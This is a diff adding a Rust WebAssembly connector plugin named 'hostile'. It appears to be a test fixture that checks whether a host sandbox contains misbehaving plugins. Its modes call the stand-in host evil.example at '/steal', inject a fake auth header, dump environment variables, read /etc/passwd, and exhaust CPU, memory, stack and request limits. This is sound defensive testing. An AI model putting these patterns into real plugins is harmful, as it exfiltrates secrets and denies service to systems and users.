@@ -1,0 +1,171 @@
+//! The misbehaviours, one per `mode`.
+
+wit_bindgen::generate!({
+    path: "../../wit",
+    world: "connector-plugin",
+    with: {
+        "wasi:http/outgoing-handler@0.2.12": wasip2::http::outgoing_handler,
+        "wasi:http/types@0.2.12": wasip2::http::types,
+        "wasi:io/poll@0.2.12": wasip2::io::poll,
+        "wasi:io/error@0.2.12": wasip2::io::error,
+        "wasi:io/streams@0.2.12": wasip2::io::streams,
+        "wasi:clocks/monotonic-clock@0.2.12": wasip2::clocks::monotonic_clock,
+        "wasi:clocks/wall-clock@0.2.12": wasip2::clocks::wall_clock,
+        "wasi:random/random@0.2.12": wasip2::random::random,
+    },
+});
+
+use exports::governance::connector::connector::Guest;
+use governance::connector::types::*;
+use wasip2::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
+
+/// GET `scheme://authority/path` with extra headers; returns status and body, or the error.
+fn get(scheme: Scheme, authority: &str, path: &str, headers: &[(&str, &str)]) -> Result<(u16, String), String> {
+    let fields = Fields::new();
+    for (k, v) in headers {
+        fields.append(k, v.as_bytes()).map_err(|e| format!("header {k} refused: {e:?}"))?;
+    }
+    let req = OutgoingRequest::new(fields);
+    req.set_method(&Method::Get).map_err(|_| "method".to_string())?;
+    req.set_scheme(Some(&scheme)).map_err(|_| "scheme".to_string())?;
+    req.set_authority(Some(authority)).map_err(|_| "authority".to_string())?;
+    req.set_path_with_query(Some(path)).map_err(|_| "path".to_string())?;
+    let body = req.body().map_err(|_| "body".to_string())?;
+    let fut = wasip2::http::outgoing_handler::handle(req, None).map_err(|e| format!("{e:?}"))?;
+    OutgoingBody::finish(body, None).map_err(|e| format!("{e:?}"))?;
+    fut.subscribe().block();
+    let resp = fut.get().ok_or("not ready")?.map_err(|_| "taken")?.map_err(|e| format!("{e:?}"))?;
+    let status = resp.status();
+    let body = resp.consume().map_err(|_| "consume")?;
+    let stream = body.stream().map_err(|_| "stream")?;
+    let mut out = Vec::new();
+    loop {
+        match stream.blocking_read(65536) {
+            Ok(c) => out.extend(c),
+            Err(wasip2::io::streams::StreamError::Closed) => break,
+            Err(e) => return Err(format!("read: {e:?}")),
+        }
+    }
+    Ok((status, String::from_utf8_lossy(&out).into_owned()))
+}
+
+fn report(text: String) -> AccountPage {
+    AccountPage {
+        accounts: vec![Account {
+            id: "hostile".into(),
+            username: None,
+            email: None,
+            display_name: Some(text),
+            status: AccountStatus::Active,
+            last_activity: None,
+            entitlements: vec![],
+            attributes: vec![],
+            warnings: vec![],
+        }],
+        next_cursor: None,
+    }
+}
+
+#[inline(never)]
+fn recurse(n: u64) -> u64 {
+    let pad = std::hint::black_box([n; 64]);
+    if n == u64::MAX { 0 } else { recurse(n + 1).wrapping_add(pad[3]) }
+}
+
+struct Hostile;
+
+impl Guest for Hostile {
+    fn metadata() -> ConnectorInfo {
+        ConnectorInfo {
+            name: "hostile".into(),
+            version: "0.0.0".into(),
+            apps: vec![AppInfo {
+                name: "twilio".into(),
+                description: "misbehaves on purpose".into(),
+                // Declares a foreign host too: the host must not trust it.
+                hosts: vec!["api.twilio.com".into(), "evil.example".into()],
+                capabilities: vec![Capability::ListAccounts],
+            }],
+        }
+    }
+
+    fn check(_cfg: Config) -> Result<String, ConnectorError> {
+        Ok("hostile".into())
+    }
+
+    fn list_accounts(cfg: Config, _cursor: Option<String>) -> Result<AccountPage, ConnectorError> {
+        let mode = cfg.options.iter().find(|(k, _)| k == "mode").map(|(_, v)| v.as_str()).unwrap_or("ok");
+        let accounts = "/2010-04-01/Accounts.json";
+        let text = match mode {
+            "ok" => "ok".to_string(),
+            "foreign-host" => format!("{:?}", get(Scheme::Https, "evil.example", "/steal", &[])),
+            "plain-http" => format!("{:?}", get(Scheme::Http, "api.twilio.com", accounts, &[])),
+            "other-port" => format!("{:?}", get(Scheme::Https, "api.twilio.com:8443", accounts, &[])),
+            "own-auth" => format!("{:?}", get(Scheme::Https, "api.twilio.com", accounts, &[("authorization", "Basic QUM6c3RvbGVu")])),
+            "echo" => match get(Scheme::Https, "api.twilio.com", accounts, &[]) {
+                Ok((_, body)) => body,
+                Err(e) => e,
+            },
+            "env" => {
+                let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
+                let root = std::fs::read_dir("/").map(|d| d.count()).map_err(|e| e.to_string());
+                let passwd = std::fs::read_to_string("/etc/passwd").map(|s| s.len()).map_err(|e| e.to_string());
+                let args: Vec<String> = std::env::args().collect();
+                format!("vars={vars:?} root={root:?} passwd={passwd:?} args={args:?}")
+            }
+            "loop" => {
+                let mut x = 0u64;
+                loop {
+                    x = std::hint::black_box(x.wrapping_add(1));
+                }
+            }
+            "alloc" => {
+                let mut hog: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hog.push(vec![1u8; 8 << 20]);
+                    std::hint::black_box(&hog);
+                }
+            }
+            "recurse" => format!("{}", recurse(0)),
+            "huge" => "x".repeat(48 << 20),
+            "flood" => {
+                let mut last = String::new();
+                for _ in 0..100_000 {
+                    match get(Scheme::Https, "api.twilio.com", accounts, &[]) {
+                        Ok(_) => {}
+                        Err(e) => {
+                            last = e;
+                            break;
+                        }
+                    }
+                }
+                last
+            }
+            "trap" => panic!("hostile plugin panicked on purpose"),
+            other => return Err(ConnectorError::InvalidConfig(format!("unknown mode {other}"))),
+        };
+        Ok(report(text))
+    }
+
+    fn get_account(_cfg: Config, id: String) -> Result<Account, ConnectorError> {
+        Err(ConnectorError::NotFound(id))
+    }
+
+    fn suspend(_c: Config, _i: String, _d: bool) -> Result<ActionResult, ConnectorError> {
+        Err(ConnectorError::Unsupported("hostile".into()))
+    }
+
+    fn reactivate(_c: Config, _i: String, _d: bool) -> Result<ActionResult, ConnectorError> {
+        Err(ConnectorError::Unsupported("hostile".into()))
+    }
+
+    fn deprovision(_c: Config, _i: String, _d: bool) -> Result<ActionResult, ConnectorError> {
+        Err(ConnectorError::Unsupported("hostile".into()))
+    }
+
+    fn provision(_c: Config, _r: ProvisionRequest, _d: bool) -> Result<ActionResult, ConnectorError> {
+        Err(ConnectorError::Unsupported("hostile".into()))
+    }
+}
+
+export!(Hostile);
